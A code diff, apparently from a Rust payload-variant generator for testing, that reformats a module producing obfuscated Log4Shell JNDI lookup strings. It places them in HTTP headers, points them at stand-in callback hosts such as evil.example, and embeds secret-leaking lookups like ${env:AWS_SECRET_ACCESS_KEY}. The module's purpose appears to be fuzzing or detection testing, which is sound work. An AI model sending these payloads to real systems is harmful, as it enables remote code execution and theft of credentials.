@@ -11,8 +11,30 @@ use crate::{Carrier, Family, Rng, Variant};
 pub struct Jndi;
 
 const PROTOCOLS: &[&str] = &["ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"];
-const HEADERS: &[&str] = &["user-agent", "x-api-version", "referer", "x-forwarded-for", "x-client-ip", "cookie", "authorization", "x-request-id", "accept-language", "x-wap-profile", "contact", "origin"];
-const EXFIL: &[&str] = &["${env:USER}", "${sys:java.version}", "${env:AWS_SECRET_ACCESS_KEY}", "${hostName}", "${java:os}", "${sys:user.name}", "${env:HOSTNAME}", "${main:0}"];
+const HEADERS: &[&str] = &[
+    "user-agent",
+    "x-api-version",
+    "referer",
+    "x-forwarded-for",
+    "x-client-ip",
+    "cookie",
+    "authorization",
+    "x-request-id",
+    "accept-language",
+    "x-wap-profile",
+    "contact",
+    "origin",
+];
+const EXFIL: &[&str] = &[
+    "${env:USER}",
+    "${sys:java.version}",
+    "${env:AWS_SECRET_ACCESS_KEY}",
+    "${hostName}",
+    "${java:os}",
+    "${sys:user.name}",
+    "${env:HOSTNAME}",
+    "${main:0}",
+];
 const UNSET: &[&str] = &["NOPE", "BARFOO", "x", "a", "DOESNOTEXIST", "z9", "QQ", "foo:bar"];
 
 impl Family for Jndi {
@@ -28,7 +50,9 @@ impl Family for Jndi {
         let mut names: Vec<&'static str> = Vec::new();
         let protocol = *rng.pick(PROTOCOLS);
         let host = match rng.below(4) {
-            0 => format!("{}.{}", rng.range(1000, 99999), rng.pick(&["oast.example", "interact.example", "dnslog.example", "burp.example"])),
+            0 => {
+                format!("{}.{}", rng.range(1000, 99999), rng.pick(&["oast.example", "interact.example", "dnslog.example", "burp.example"]))
+            }
             1 => format!("198.51.100.{}:{}", rng.range(1, 254), rng.pick(&["1389", "1099", "389", "53", "80"])),
             2 => format!("{}.evil.example", rng.pick(EXFIL)),
             _ => format!("127.0.0.1#{}.example:1389", rng.range(1, 999)),
@@ -50,7 +74,11 @@ impl Family for Jndi {
         let jndi = spell(rng, "jndi", share, &mut kinds_used);
         let colon = if share > 0.0 && rng.chance(0.3) { lookup(rng, ':', &mut kinds_used) } else { ":".to_string() };
         let proto = spell(rng, protocol, share, &mut kinds_used);
-        let slashes = if share > 0.0 && rng.chance(0.2) { format!("{}{}", lookup(rng, '/', &mut kinds_used), lookup(rng, '/', &mut kinds_used)) } else { "//".to_string() };
+        let slashes = if share > 0.0 && rng.chance(0.2) {
+            format!("{}{}", lookup(rng, '/', &mut kinds_used), lookup(rng, '/', &mut kinds_used))
+        } else {
+            "//".to_string()
+        };
         names.extend(kinds_used.iter().copied().take(3));
         let mut payload = match rng.below(10) {
             // The lookup closed early by a stray brace after the protocol, as published bypass
@@ -99,7 +127,11 @@ impl Family for Jndi {
             transport_layer(rng, &payload)
         };
         names.push(layer);
-        let encoded = if matches!(carrier, Carrier::Header(_)) && encoded.contains(' ') && rng.chance(0.2) { percent_specials(&encoded) } else { encoded };
+        let encoded = if matches!(carrier, Carrier::Header(_)) && encoded.contains(' ') && rng.chance(0.2) {
+            percent_specials(&encoded)
+        } else {
+            encoded
+        };
         Variant { family: "jndi", mutation: join(&names), payload: encoded, carrier }
     }
 }
@@ -149,7 +181,11 @@ fn lookup(rng: &mut Rng, c: char, kinds: &mut Vec<&'static str>) -> String {
         1 => {
             note(kinds, "upper");
             // `ı` (dotless i) upper-cases to `I`.
-            if c == 'i' && rng.chance(0.3) { "${upper:ı}".to_string() } else { format!("${{upper:{c}}}") }
+            if c == 'i' && rng.chance(0.3) {
+                "${upper:ı}".to_string()
+            } else {
+                format!("${{upper:{c}}}")
+            }
         }
         2 => {
             note(kinds, "default");
